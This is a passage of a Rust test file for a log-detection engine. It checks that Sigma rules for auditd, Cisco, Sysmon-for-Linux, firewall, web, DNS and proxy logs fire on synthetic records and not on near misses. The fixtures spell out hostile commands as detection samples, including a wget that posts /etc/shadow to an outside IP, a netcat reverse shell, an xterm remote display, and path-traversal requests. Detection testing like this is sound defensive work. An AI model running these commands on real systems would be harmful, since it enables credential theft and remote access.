    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-auditd"));
    let loaded = load_dir(dir, &LogsourceMap::default());
    assert!(loaded.errors.is_empty(), "{:#?}", loaded.errors);
    let rules = loaded.rules;
    assert_eq!(rules.len(), 8);
    let plugin = |record: &str| format!("<85>Nov 22 10:00:00 web1 audisp-syslog: {record}");
    let node = |record: &str| format!("<85>Nov 22 10:00:00 web1 audispd: node=web1 {record}");
    let imfile = |record: &str| format!("<13>Nov 22 10:00:00 web1 audit.log: {record}");
    let syscall = |comm: &str, exe: &str| {
        format!(
            "type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e syscall=59 success=yes \
             exit=0 a0=55d5 a1=55d6 a2=55d7 a3=0 items=2 ppid=1000 pid=1234 auid=1000 uid=0 \
             gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"{comm}\" \
             exe=\"{exe}\" key=(null)"
        )
    };
    let execve = |args: &[&str]| {
        let mut r = format!(
            "type=EXECVE msg=audit(1700000000.124:4242): argc={}",
            args.len()
        );
        for (i, a) in args.iter().enumerate() {
            r.push_str(&format!(" a{i}=\"{a}\""));
        }
        r
    };
    let path = |name: &str| {
        format!(
            "type=PATH msg=audit(1700000000.125:4242): item=0 name=\"{name}\" inode=393 \
             dev=fd:00 mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"
        )
    };
    let service_stop = |unit: &str| {
        format!(
            "type=SERVICE_STOP msg=audit(1700000000.126:4243): pid=1 uid=0 auid=4294967295 \
             ses=4294967295 msg='unit={unit} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" \
             hostname=? addr=? terminal=? res=success'"
        )
    };
    // (file, a record it is written for, a near miss)
    let cases = [
        (
            "lnx_auditd_auditing_config_change.yml",
            plugin(&path("/etc/audit/auditd.conf")),
            plugin(&path("/etc/auditd.conf.bak")),
        ),
        (
            "lnx_auditd_binary_padding.yml",
            node(&execve(&["truncate", "-s", "+5M", "/usr/bin/ls"])),
            node(&execve(&["dd", "if=/dev/zero", "of=/tmp/x"])),
        ),
        (
            "lnx_auditd_chattr_immutable_removal.yml",
            imfile(&execve(&["chattr", "-i", "/etc/passwd"])),
            imfile(&execve(&["chattr", "+i", "/etc/passwd"])),
        ),
        (
            "lnx_auditd_create_account.yml",
            plugin(&syscall("useradd", "/usr/sbin/useradd")),
            plugin(&syscall("usermod", "/usr/sbin/usermod")),
        ),
        (
            "lnx_auditd_data_exfil_wget.yml",
            node(&execve(&[
                "wget",
                "--post-file=/etc/shadow",
                "http://198.51.100.9/",
            ])),
            node(&execve(&["wget", "http://198.51.100.9/index.html"])),
        ),
        (
            "lnx_auditd_disable_system_firewall.yml",
            plugin(&service_stop("firewalld")),
            plugin(&service_stop("cups")),
        ),
        (
            "lnx_auditd_load_module_insmod.yml",
            imfile(&syscall("insmod", "/usr/bin/kmod")),
            imfile(&syscall("lsmod", "/usr/bin/kmod")),
        ),
        (
            "lnx_auditd_susp_exe_folders.yml",
            plugin(&syscall("x", "/tmp/.x/miner")),
            plugin(&syscall("ls", "/usr/bin/ls")),
        ),
    ];
    for (file, hit, miss) in &cases {
        each_fires_on_its_own(&rules, file, hit, miss);
    }
    // The same commands as plain shell history, not audit records: not the service's.
    let r = by_file(&rules, "lnx_auditd_chattr_immutable_removal.yml");
    assert!(!fires_both(
        r,
        "<13>Nov 22 10:00:00 web1 bash[1]: type=EXECVE a0=chattr a1=-i"
    ));
    none_fires_on_loghub(&rules);
}

/// auditd writes an argument or a path that holds a space, a quote or a control character as
/// hex; a rule reads it decoded, through the rule set's prefilter too (the literal is not in
/// the message). `syscall` also reads as the x86_64 call's name.
#[test]
fn audit_records_are_read_decoded() {
    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-auditd"));
    let rules = load_dir(dir, &LogsourceMap::default()).rules;
    let hex = |s: &str| s.bytes().map(|b| format!("{b:02X}")).collect::<String>();
    // `chattr -i "/etc/my passwd"`: the path holds a space, so it is hex.
    let execve = format!(
        "<85>Nov 22 10:00:00 web1 audisp-syslog: type=EXECVE msg=audit(1700000000.124:4242): \
         argc=3 a0=\"chattr\" a1=\"-i\" a2={}",
        hex("/etc/my passwd")
    );
    let r = by_file(&rules, "lnx_auditd_chattr_immutable_removal.yml");
    assert!(fires_both(r, &execve));
    // The whole command hex-encoded, as auditd does when any argument needs it.
    let all_hex = format!(
        "<85>Nov 22 10:00:00 web1 audisp-syslog: type=EXECVE msg=audit(1700000000.124:4242): \
         argc=2 a0={} a1={}",
        hex("chattr"),
        hex("-i")
    );
    assert!(fires_both(r, &all_hex), "{all_hex}");
    let plus = all_hex.replace(&hex("-i"), &hex("+i"));
    assert!(!fires_both(r, &plus));
    // Quoted text that looks like hex is text.
    let quoted = format!(
        "<85>Nov 22 10:00:00 web1 audisp-syslog: type=EXECVE msg=audit(1700000000.124:4242): \
         argc=2 a0=\"{}\" a1=\"{}\"",
        hex("chattr"),
        hex("-i")
    );
    assert!(!fires_both(r, &quoted));

    let by_name = rule(
        r#"
title: t
logsource: {product: linux, service: auditd}
detection:
    sel: {type: SYSCALL, syscall: execve, proctitle|contains: 'bash -c'}
    condition: sel
"#,
    );
    let record = |nr: &str, title: &str| {
        format!(
            "<85>Nov 22 10:00:00 web1 audisp-syslog: type=SYSCALL msg=audit(1700000000.1:7): \
             arch=c000003e syscall={nr} success=yes exit=0 comm=\"bash\" proctitle={}",
            hex(title)
        )
    };
    assert!(fires_both(&by_name, &record("59", "bash\0-c\0id")));
    assert!(
        !fires_both(&by_name, &record("2", "bash\0-c\0id")),
        "open, not execve"
    );
    assert!(!fires_both(&by_name, &record("59", "bash\0-l")));
}

/// Every SigmaHQ Cisco rule shipped in `rules/sigma-cisco/` loads unchanged and fires on a
/// record of its service in the shapes IOS, IOS-XE, NX-OS and ASA send (with or without a
/// sequence number, a `*` clock, a relay's host), not on a near miss nor on another service's
/// or another product's message, and none fires on the LogHub samples.
#[test]
fn every_sigmahq_cisco_rule_loads_and_fires_on_its_record() {
    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-cisco"));
    let loaded = load_dir(dir, &LogsourceMap::default());
    assert!(loaded.errors.is_empty(), "{:#?}", loaded.errors);
    let rules = loaded.rules;
    assert_eq!(rules.len(), 3);
    let ios = |n: u32, text: &str| format!("<189>{n}: *Mar  1 00:12:33.456: {text}");
    let relayed = |text: &str| format!("<189>Nov 22 10:00:00 rtr1 45: Nov 22 10:00:00 UTC: {text}");
    let logged =
        |cmd: &str| format!("%PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:{cmd}");
    let cases = [
        (
            "cisco_bgp_md5_auth_failed.yml",
            "<187>Nov 22 10:00:00 rtr1 %IP-TCP-3-BADAUTH: Invalid MD5 digest from \
             198.18.0.2:179 to 198.18.0.1:11003"
                .to_string(),
            // LDP's port, not BGP's.
            "<187>Nov 22 10:00:00 rtr1 %IP-TCP-3-BADAUTH: Invalid MD5 digest from \
             198.18.0.2:646 to 198.18.0.1:11003"
                .to_string(),
        ),
        (
            "cisco_cli_clear_logs.yml",
            ios(1234, &logged("clear logging")),
            ios(1234, &logged("show logging")),
        ),
        (
            "cisco_cli_discovery.yml",
            relayed(&logged("show version")),
            relayed(&logged("configure terminal")),
        ),
    ];
    for (file, hit, miss) in &cases {
        each_fires_on_its_own(&rules, file, hit, miss);
    }
    let clear = by_file(&rules, "cisco_cli_clear_logs.yml");
    // An ASA's command accounting.
    assert!(fires_both(
        clear,
        "<165>%ASA-5-111008: User 'admin' executed the 'clear logging' command."
    ));
    // The words in a message of another service, or from a Linux host.
    assert!(!fires_both(
        clear,
        &ios(
            7,
            "%SYS-5-CONFIG_I: Configured from console by admin (clear logging)"
        )
    ));
    assert!(!fires_both(
        clear,
        "<13>Nov 22 10:00:00 h bash[1]: clear logging"
    ));
    none_fires_on_loghub(&rules);
}

/// An event as Sysmon for Linux writes it to syslog: the Windows event XML schema, with `id` as
/// its EventID and `data` as its `<Data Name=...>` fields.
fn sysmon(id: u32, data: &[(&str, &str)]) -> String {
    let mut fields = String::new();
    for (name, value) in [
        ("RuleName", "-"),
        ("UtcTime", "2026-11-22 10:00:00.000"),
        ("ProcessGuid", "{4f3a1c2b-0000-0000-0000-000000000001}"),
        ("ProcessId", "1234"),
    ]
    .iter()
    .chain(data)
    {
        fields.push_str(&format!("<Data Name=\"{name}\">{value}</Data>"));
    }
    format!(
        "<14>Nov 22 10:00:00 web1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" \
         Guid=\"{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}\"/><EventID>{id}</EventID><Version>5\
         </Version><Level>4</Level><Task>{id}</Task><Opcode>0</Opcode><Keywords>\
         0x8000000000000000</Keywords><TimeCreated SystemTime=\"2026-11-22T10:00:00.000000000Z\"/>\
         <EventRecordID>42</EventRecordID><Correlation/><Execution ProcessID=\"998\" \
         ThreadID=\"998\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer>\
         <Security UserId=\"0\"/></System><EventData>{fields}<Data Name=\"User\">root</Data>\
         </EventData></Event>"
    )
}

/// Every SigmaHQ Sysmon-for-Linux rule shipped in `rules/sigma-linux-sysmon/` (categories
/// `process_creation`, `network_connection`, `file_event`) loads unchanged and fires on the
/// event it is written for, not on a near miss, not on another category's event nor on the same
/// words outside a Sysmon event; none fires on the LogHub samples.
#[test]
fn every_sigmahq_sysmon_rule_loads_and_fires_on_its_event() {
    let dir = Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/rules/sigma-linux-sysmon"
    ));
    let loaded = load_dir(dir, &LogsourceMap::default());
    assert!(loaded.errors.is_empty(), "{:#?}", loaded.errors);
    let rules = loaded.rules;
    assert_eq!(rules.len(), 16);
    let exec = |image: &str, cl: &str| {
        sysmon(
            1,
            &[
                ("Image", image),
                ("CommandLine", cl),
                ("CurrentDirectory", "/root"),
                ("ParentImage", "/usr/bin/bash"),
            ],
        )
    };
    let cases = [
        (
            "file_event_lnx_wget_download_file_in_tmp_dir.yml",
            sysmon(
                11,
                &[("Image", "/usr/bin/wget"), ("TargetFilename", "/tmp/x.sh")],
            ),
            sysmon(
                11,
                &[("Image", "/usr/bin/wget"), ("TargetFilename", "/root/x.sh")],
            ),
        ),
        (
            "net_connection_lnx_back_connect_shell_dev.yml",
            sysmon(
                3,
                &[("Image", "/usr/bin/bash"), ("DestinationIp", "198.18.0.9")],
            ),
            sysmon(
                3,
                &[("Image", "/usr/bin/bash"), ("DestinationIp", "127.0.0.1")],
            ),
        ),
        (
            "proc_creation_lnx_awk_shell_spawn.yml",
            exec("/usr/bin/gawk", "gawk BEGIN {system(/bin/sh)}"),
            exec("/usr/bin/gawk", "gawk {print $1} /etc/passwd"),
        ),
        (
            "proc_creation_lnx_capa_discovery.yml",
            exec("/usr/sbin/getcap", "getcap -r /"),
            exec("/usr/sbin/getcap", "getcap /usr/bin/ping"),
        ),
        (
            "proc_creation_lnx_crontab_enumeration.yml",
            exec("/usr/bin/crontab", "crontab -l"),
            exec("/usr/bin/crontab", "crontab -e"),
        ),
        (
            "proc_creation_lnx_env_shell_invocation.yml",
            exec("/usr/bin/env", "env /bin/sh"),
            exec("/usr/bin/env", "env LANG=C ls"),
        ),
        (
            "proc_creation_lnx_esxcli_vsan_discovery.yml",
            exec("/bin/esxcli", "esxcli vsan cluster get"),
            exec("/bin/esxcli", "esxcli network ip interface list"),
        ),
        (
            "proc_creation_lnx_install_root_certificate.yml",
            exec("/usr/sbin/update-ca-certificates", "update-ca-certificates"),
            exec("/usr/bin/openssl", "openssl x509 -in ca.pem"),
        ),
        (
            "proc_creation_lnx_netcat_reverse_shell.yml",
            exec("/usr/bin/nc", "nc 198.18.0.9 4444 -e /bin/sh"),
            exec("/usr/bin/nc", "nc -zv 198.18.0.9 22"),
        ),
        (
            "proc_creation_lnx_proxy_connection.yml",
            exec(
                "/usr/bin/env",
                "env https_proxy=http://198.18.0.9:3128 curl https://example.org",
            ),
            exec("/usr/bin/curl", "curl https://example.org"),
        ),
        (
            "proc_creation_lnx_remove_package.yml",
            exec("/usr/bin/apt-get", "apt-get remove auditd"),
            exec("/usr/bin/apt-get", "apt-get install auditd"),
        ),
        (
            "proc_creation_lnx_ssh_shell_execution.yml",
            exec("/usr/bin/ssh", "ssh localhost /bin/sh"),
            exec("/usr/bin/ssh", "ssh admin@198.18.0.9 uptime"),
        ),
        (
            "proc_creation_lnx_susp_git_clone.yml",
            exec(
                "/usr/bin/git",
                "git clone https://example.org/x/CVE-2026-0001-poc",
            ),
            exec("/usr/bin/git", "git clone https://example.org/x/dotfiles"),
        ),
        (
            "proc_creation_lnx_susp_process_reading_sudoers.yml",
            exec("/usr/bin/cat", "cat /etc/sudoers"),
            exec("/usr/bin/cat", "cat /etc/hosts"),
        ),
        (
            "proc_creation_lnx_systemctl_mask_power_settings.yml",
            exec("/usr/bin/systemctl", "systemctl mask suspend.target"),
            exec("/usr/bin/systemctl", "systemctl status suspend.target"),
        ),
        (
            "proc_creation_lnx_xterm_reverse_shell.yml",
            exec("/usr/bin/xterm", "xterm -display 198.18.0.9:1"),
            exec("/usr/bin/xterm", "xterm -display :0"),
        ),
    ];
    for (file, hit, miss) in &cases {
        each_fires_on_its_own(&rules, file, hit, miss);
    }
    // The same process creations on a host with only auditd: a SYSCALL, its EXECVE (the
    // arguments hex-encoded, as auditd writes those with a space or a quote) and its
    // PROCTITLE, joined.
    let auditd = |image: &str, cl: &str| {
        use detector::engine::audit_join::AuditJoin;
        let hex = |s: &str| s.bytes().map(|b| format!("{b:02X}")).collect::<String>();
        let comm = image.rsplit('/').next().unwrap_or(image);
        let syscall = format!(
            "<85>Nov 22 10:00:00 web1 audisp-syslog: type=SYSCALL msg=audit(1700000000.1:77): \
             arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=0 uid=0 \
             comm=\"{comm}\" exe=\"{image}\""
        );
        let args: Vec<String> = cl
            .split(' ')
            .enumerate()
            .map(|(i, a)| format!("a{i}={}", hex(a)))
            .collect();
        let execve = format!(
            "<85>Nov 22 10:00:00 web1 audisp-syslog: type=EXECVE msg=audit(1700000000.1:77): \
             argc={} {}",
            args.len(),
            args.join(" ")
        );
        let proctitle = format!(
            "<85>Nov 22 10:00:00 web1 audisp-syslog: type=PROCTITLE \
             msg=audit(1700000000.1:77): proctitle={}",
            hex(&cl.replace(' ', "\0"))
        );
        let mut join = AuditJoin::new();
        let opts = ParseOptions::default();
        assert!(join.add(&parse(syscall.as_bytes(), &opts), 0).is_none());
        assert!(join.add(&parse(execve.as_bytes(), &opts), 1).is_none());
        let joined = join
            .add(&parse(proctitle.as_bytes(), &opts), 2)
            .expect("joined");
        String::from_utf8(joined.to_vec()).unwrap()
    };
    let from_exec = |line: &str| -> (String, String) {
        // Back from the Sysmon event to its Image and CommandLine.
        let value = |name: &str| {
            let tag = format!("<Data Name=\"{name}\">");
            let start = line.find(&tag).unwrap() + tag.len();
            line[start..start + line[start..].find("</Data>").unwrap()].to_string()
        };
        (value("Image"), value("CommandLine"))
    };
    for (file, hit, miss) in cases
        .iter()
        .filter(|(f, _, _)| f.starts_with("proc_creation"))
    {
        let (hi, hc) = from_exec(hit);
        let (mi, mc) = from_exec(miss);
        each_fires_on_its_own(&rules, file, &auditd(&hi, &hc), &auditd(&mi, &mc));
    }
    let sudoers = by_file(&rules, "proc_creation_lnx_susp_process_reading_sudoers.yml");
    // The same fields in another category's event (a file made), or as key=value text.
    assert!(!fires_both(
        sudoers,
        &sysmon(
            11,
            &[
                ("Image", "/usr/bin/cat"),
                ("CommandLine", "cat /etc/sudoers")
            ]
        )
    ));
    assert!(!fires_both(
        sudoers,
        "<14>Nov 22 10:00:00 web1 app: EventID=1 Image=/usr/bin/cat CommandLine=\"cat /etc/sudoers\""
    ));
    none_fires_on_loghub(&rules);
}

/// A folder of YAML files for one test, removed when dropped (also on failure).
struct YamlDir(std::path::PathBuf);

impl YamlDir {
    fn new(test: &str, files: &[(&str, &str)]) -> Self {
        let dir = std::env::temp_dir().join(format!("detector-{test}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        for (name, text) in files {
            std::fs::write(dir.join(name), text).unwrap();
        }
        Self(dir)
    }
}

impl Drop for YamlDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

const SU_RULE: &str = r#"
title: Switch to root
id: 0e7a1d4c-0000-4000-8000-000000000001
name: su_root
logsource: {product: linux, service: auth}
detection:
    sel: {message|contains: 'to root'}
    condition: sel
level: medium
"#;

const SSH_RULE: &str = r#"
title: Root login
id: 0e7a1d4c-0000-4000-8000-000000000002
logsource: {product: linux, service: sshd}
detection:
    keywords: ['Accepted password for root']
    condition: keywords
level: high
"#;

/// Sigma filters: AND-ed into the rules they name (by id or name, or every rule of their log
/// source), so an exception needs no edit of the rule; a filter that does nothing is refused.
#[test]
fn filters_tune_the_rules_they_name_without_editing_them() {
    use detector::rules::sigma::apply_filters;
    let dir = YamlDir::new(
        "filters",
        &[
            ("su.yml", SU_RULE),
            ("ssh.yml", SSH_RULE),
            (
                "filter-backup.yml",
                r#"
title: Backup hosts switch to root
logsource: {product: linux}
filter:
    rules: [su_root]
    backup: {host|startswith: 'bkp-'}
    condition: not backup
"#,
            ),
            (
                "filter-jump.yml",
                r#"
title: The jump host
logsource: {service: sshd}
filter:
    jump: {host: jump1}
    condition: not jump
"#,
            ),
        ],
    );
    let mut loaded = load_dir(&dir.0, &LogsourceMap::default());
    assert!(loaded.errors.is_empty(), "{:#?}", loaded.errors);
    assert_eq!((loaded.rules.len(), loaded.filters.len()), (2, 2));
    let errors = apply_filters(&mut loaded.rules, &loaded.filters);
    assert!(errors.is_empty(), "{errors:#?}");
    let (su, ssh) = (&loaded.rules[1], &loaded.rules[0]);
    assert_eq!(su.title, "Switch to root");
    assert_eq!(su.filters, ["Backup hosts switch to root"]);
    assert_eq!(ssh.filters, ["The jump host"], "by log source");
    let su_line = |host: &str| format!("<85>Nov 22 10:00:00 {host} su[1]: session opened to root");
    assert!(fires_both(su, &su_line("web1")));
    assert!(!fires_both(su, &su_line("bkp-01")), "filtered out");
    let ssh_line = |host: &str| {
        format!("<38>Nov 22 10:00:00 {host} sshd[1]: Accepted password for root from 198.51.100.7")
    };
    assert!(fires_both(ssh, &ssh_line("web1")));
    assert!(!fires_both(ssh, &ssh_line("jump1")));

    // A filter about a rule that is not loaded, or that no rule's log source admits, is refused.
    let dir = YamlDir::new(
        "filters-bad",
        &[
            ("su.yml", SU_RULE),
            (
                "gone.yml",
                r#"
title: Gone
filter:
    rules: [0e7a1d4c-0000-4000-8000-00000000dead]
    sel: {host: x}
    condition: not sel
"#,
            ),
            (
                "nowhere.yml",
                r#"
title: Nowhere
logsource: {product: windows}
filter:
    sel: {host: x}
    condition: not sel
"#,
            ),
            (
                "broken.yml",
                r#"
title: Broken
filter:
    sel: {host|nonsense: x}
    condition: not sel
"#,
            ),
        ],
    );
    let mut loaded = load_dir(&dir.0, &LogsourceMap::default());
    assert_eq!(loaded.errors.len(), 1, "{:#?}", loaded.errors);
    assert!(loaded.errors[0].file.ends_with("broken.yml"));
    assert!(
        loaded.errors[0].construct.starts_with("filter.sel"),
        "{:?}",
        loaded.errors[0]
    );
    let errors = apply_filters(&mut loaded.rules, &loaded.filters);
    let said: Vec<String> = errors.iter().map(ToString::to_string).collect();
    assert_eq!(said.len(), 2, "{said:#?}");
    assert!(
        said[0].contains("gone.yml: filter.rules: no loaded rule"),
        "{said:#?}"
    );
    assert!(
        said[1].contains("nowhere.yml: logsource: the filter applies to no"),
        "{said:#?}"
    );
}

/// Log sources as data: a processing pipeline in a rule folder maps a service the shipped one
/// does not know and renames a field for its rules; without it the rule is refused. Pipelines
/// that ask for what is not read are refused with the file and the transformation named.
#[test]
fn a_folder_pipeline_maps_log_sources_and_field_names() {
    let rule_text = r#"
title: Path traversal in a proxy log
logsource: {product: linux, service: squid}
detection:
    sel: {url|contains: '/../'}
    condition: sel
"#;
    let refused = rejected(rule_text);
    assert!(
        refused.contains("\"squid\" is not in the log source table"),
        "{refused}"
    );
    let dir = YamlDir::new(
        "pipelines",
        &[
            ("rule.yml", rule_text),
            (
                "squid.yml",
                r#"
name: our proxies
priority: 20
transformations:
  - id: squid_service
    type: add_condition
    rule_conditions: [{type: logsource, service: squid}]
    conditions: {app: [squid, squid3]}
  - id: squid_fields
    type: field_name_mapping
    rule_conditions: [{type: logsource, service: squid}]
    mapping: {url: request}
"#,
            ),
        ],
    );
    let loaded = load_dir(&dir.0, &LogsourceMap::default());
    assert!(loaded.errors.is_empty(), "{:#?}", loaded.errors);
    let r = &loaded.rules[0];
    let line = |app: &str, kv: &str| format!("<13>Nov 22 10:00:00 proxy1 {app}[7]: {kv}");
    assert!(fires_both(
        r,
        &line("squid", "method=GET request=/a/../../etc/passwd")
    ));
    assert!(fires_both(r, &line("squid3", "method=GET request=/x/../y")));
    assert!(
        !fires_both(r, &line("squid", "method=GET url=/a/../b")),
        "read as request"
    );
    assert!(
        !fires_both(r, &line("nginx", "method=GET request=/a/../b")),
        "not the service"
    );

    let bad = |text: &str| {
        LogsourceMap::empty()
            .with_pipeline("bad.yml", text)
            .expect_err("must be refused")
            .to_string()
    };
    let e = bad(
        "transformations:\n  - id: x\n    type: drop_detection_item\n    \
         rule_conditions: [{type: logsource, product: linux}]\n",
    );
    assert!(
        e.starts_with("bad.yml: transformations.x: type \"drop_detection_item\""),
        "{e}"
    );
    let e = bad("transformations:\n  - type: add_condition\n    \
         rule_conditions: [{type: logsource, service: s}]\n    conditions: {host: [a]}\n");
    assert!(
        e.contains("transformations[0]") && e.contains("not \"host\""),
        "{e}"
    );
    let e = bad("transformations:\n  - type: add_condition\n    \
         rule_conditions: [{type: logsource, category: c}]\n    conditions: {payload: yaml, X: '1'}\n");
    assert!(e.contains("payload \"yaml\""), "{e}");
    // The shipped pipeline reads, and maps what the shipped rules use.
    let shipped = LogsourceMap::empty()
        .with_pipeline("syslog.yml", detector::rules::sigma::SHIPPED_PIPELINE)
        .unwrap();
    assert!(
        shipped
            .service("auditd")
            .is_some_and(|s| s.payload.is_some())
    );
    assert!(shipped.category("process_creation").is_some());
    assert!(shipped.tagged_service("cisco", "aaa").is_some());
}

/// `expand`: a value's `%name%` placeholders take each value a pipeline's `vars` gives them.
#[test]
fn expand_fills_placeholders_from_the_pipelines_vars() {
    let dir = YamlDir::new(
        "expand",
        &[
            (
                "vars.yml",
                "name: our site\nvars:\n  admins: [root, toor]\n  jump: jump1\ntransformations: []\n",
            ),
            (
                "rule.yml",
                r#"
title: An admin logs in from somewhere else than the jump host
logsource: {product: linux, service: sshd}
detection:
    sel: {user|expand: '%admins%', action: login}
    jump: {src|expand: '%jump%.example.net'}
    condition: sel and not jump
"#,
            ),
        ],
    );
    let loaded = load_dir(&dir.0, &LogsourceMap::default());
    assert!(loaded.errors.is_empty(), "{:#?}", loaded.errors);
    let r = &loaded.rules[0];
    let line = |kv: &str| format!("<38>Nov 22 10:00:00 h sshd[1]: action=login {kv}");
    assert!(fires_both(r, &line("user=root src=ws7.example.net")));
    assert!(fires_both(r, &line("user=toor src=ws7.example.net")));
    assert!(!fires_both(r, &line("user=alice src=ws7.example.net")));
    assert!(!fires_both(r, &line("user=root src=jump1.example.net")));
}

/// `category: firewall`: the kernel's netfilter log lines (iptables, nftables, ufw) after
/// their prefix, with Sigma's firewall field names mapped onto netfilter's by the shipped
/// pipeline.
#[test]
fn firewall_rules_read_netfilter_log_lines() {
    let r = rule(
        r#"
title: Inbound SSH to a host that should not take it
logsource: {category: firewall}
detection:
    sel: {dst_port: 22, dst_ip|cidr: 198.51.100.0/24}
    filter: {src_ip|cidr: 10.0.0.0/8}
    condition: sel and not filter
"#,
    );
    let ufw = |src: &str, dport: u16| {
        format!(
            "<4>Dec  7 10:00:00 fw1 kernel: [12345.678901] [UFW BLOCK] IN=eth0 OUT= \
             MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:08:00 SRC={src} DST=198.51.100.2 LEN=60 \
             TOS=0x00 PREC=0x00 TTL=52 ID=54321 DF PROTO=TCP SPT=51234 DPT={dport} \
             WINDOW=64240 RES=0x00 SYN URGP=0"
        )
    };
    assert!(fires_both(&r, &ufw("203.0.113.5", 22)));
    assert!(!fires_both(&r, &ufw("203.0.113.5", 443)));
    assert!(!fires_both(&r, &ufw("10.1.2.3", 22)), "the filter");
    let nft = "<4>Dec  7 10:00:00 fw1 kernel: IPTABLES-DROP: IN=eth1 OUT= SRC=203.0.113.9 \
               DST=198.51.100.7 PROTO=TCP SPT=4444 DPT=22";
    assert!(fires_both(&r, nft));
    // Another kernel message, and the same pairs from an app that is not the kernel.
    assert!(!fires_both(
        &r,
        "<4>Dec  7 10:00:00 fw1 kernel: eth0: link up DPT=22 (not a netfilter line)"
    ));
    let e = parse(nft.as_bytes(), &ParseOptions::default());
    assert_eq!(e.payload, detector::parse::Payload::Kv);
    let e = parse(
        b"<13>Dec  7 10:00:00 h app: note IN=x OUT=y",
        &ParseOptions::default(),
    );
    assert_eq!(
        e.payload,
        detector::parse::Payload::Plain,
        "only the kernel's"
    );
}

/// `category: webserver`: Apache's and nginx's access log lines, common or combined format,
/// read as the W3C fields webserver rules name.
#[test]
fn webserver_rules_read_access_log_lines() {
    let r = rule(
        r#"
title: Path traversal attempts
logsource: {category: webserver}
detection:
    sel:
        cs-uri-query|contains: ['../', '%2e%2e']
    success: {sc-status: 200}
    condition: sel and success
"#,
    );
    let line = |query: &str, status: u16| {
        format!(
            "<190>Dec  7 10:00:00 web1 nginx: 203.0.113.5 - - [07/Dec/2026:10:00:00 +0000] \
             \"GET /download.php?{query} HTTP/1.1\" {status} 512 \"-\" \"curl/8.5.0\""
        )
    };
    assert!(fires_both(&r, &line("file=../../etc/passwd", 200)));
    assert!(fires_both(&r, &line("file=%2E%2E/%2e%2e/etc/passwd", 200)));
    assert!(!fires_both(&r, &line("file=../../etc/passwd", 404)));
    assert!(!fires_both(&r, &line("file=report.pdf", 200)));
    // The same text in a message that is no access log line.
    assert!(!fires_both(
        &r,
        "<13>Dec  7 10:00:00 web1 app: cs-uri-query=../x sc-status=200"
    ));
    none_fires_on_loghub(std::slice::from_ref(&r));
}

/// `category: dns`: dnsmasq's and BIND's query log lines, read as `query`, `record_type`,
/// `answer` and `src_ip`.
#[test]
fn dns_rules_read_dns_server_query_logs() {
    let r = rule(
        r#"
title: DNS query for an onion address
logsource: {category: dns}
detection:
    sel: {query|endswith: '.onion'}
    condition: sel
"#,
    );
    let txt = rule(
        r#"
title: TXT lookups from one client
logsource: {category: dns}
detection:
    sel: {record_type: TXT, src_ip|cidr: 192.0.2.0/24}
    condition: sel
"#,
    );
    let dnsmasq = |kind: &str, name: &str| {
        format!("<30>Dec  7 10:00:00 gw dnsmasq[812]: query[{kind}] {name} from 192.0.2.5")
    };
    let bind = |name: &str| {
        format!(
            "<30>Dec  7 10:00:00 ns1 named[901]: client @0x7f3a2c0 192.0.2.5#53211 ({name}): \
             query: {name} IN A +E(0)K (10.0.0.1)"
        )
    };
    assert!(fires_both(&r, &dnsmasq("A", "abcdefgh.onion")));
    assert!(fires_both(&r, &bind("abcdefgh.onion")));
    assert!(!fires_both(&r, &dnsmasq("A", "example.org")));
    assert!(!fires_both(&r, &bind("onion.example.org")));
    assert!(fires_both(&txt, &dnsmasq("TXT", "c2.example.net")));
    assert!(!fires_both(&txt, &dnsmasq("A", "c2.example.net")));
    // The name in a message that is no query log line.
    assert!(!fires_both(
        &r,
        "<13>Dec  7 10:00:00 h app: resolving abcdefgh.onion"
    ));
    let reply = parse(
        b"<30>Dec  7 10:00:00 gw dnsmasq[812]: reply c2.example.net is 198.51.100.7",
        &ParseOptions::default(),
    );
    let answer = reply.fields().find(|f| f.key == b"answer").map(|f| f.value);
    assert_eq!(answer, Some(&b"198.51.100.7"[..]));
    none_fires_on_loghub(&[r, txt]);
}

/// `category: proxy`: squid's native access log lines, read as Sigma's proxy fields.
#[test]
fn proxy_rules_read_squid_access_logs() {
    let r = rule(
        r#"
title: Executable download through the proxy
logsource: {category: proxy}
detection:
    sel:
        c-uri-stem|endswith: ['.exe', '.ps1']
        cs-method: GET
    ok: {sc-status: 200}
    condition: sel and ok
"#,
    );
    let squid = |uri: &str, status: u16| {
        format!(
            "<22>Dec  7 10:00:00 proxy1 squid[3001]: 1765101600.123    150 192.0.2.5 \
             TCP_MISS/{status} 5120 GET {uri} - HIER_DIRECT/198.51.100.7 text/html"
        )
    };
    assert!(fires_both(
        &r,
        &squid("http://dl.example.net/x/setup.exe?id=7", 200)
    ));
    assert!(!fires_both(
        &r,
        &squid("http://dl.example.net/x/setup.exe", 404)
    ));
    assert!(!fires_both(
        &r,
        &squid("http://dl.example.net/x/readme.txt", 200)
    ));
    assert!(!fires_both(
        &r,
        "<13>Dec  7 10:00:00 h app: fetched http://dl.example.net/setup.exe status 200"
    ));
    none_fires_on_loghub(std::slice::from_ref(&r));
}

/// The joined record of an `execve` carries every field of its SYSCALL, EXECVE, CWD and PATH
/// records under their own names: a rule that reads them together selects
/// `type: PROCESS_CREATION`, and the per-record rules do not fire on it twice.
#[test]
fn a_rule_reads_the_fields_of_an_execves_records_together() {
    use detector::engine::audit_join::AuditJoin;
    let record = |kind: &str, rest: &str| {
        format!(
            "<85>Dec  7 10:00:00 web1 audisp-syslog: type={kind} \
             msg=audit(1765101600.500:31): {rest}"
        )
    };
    let lines = [
        record(
            "SYSCALL",
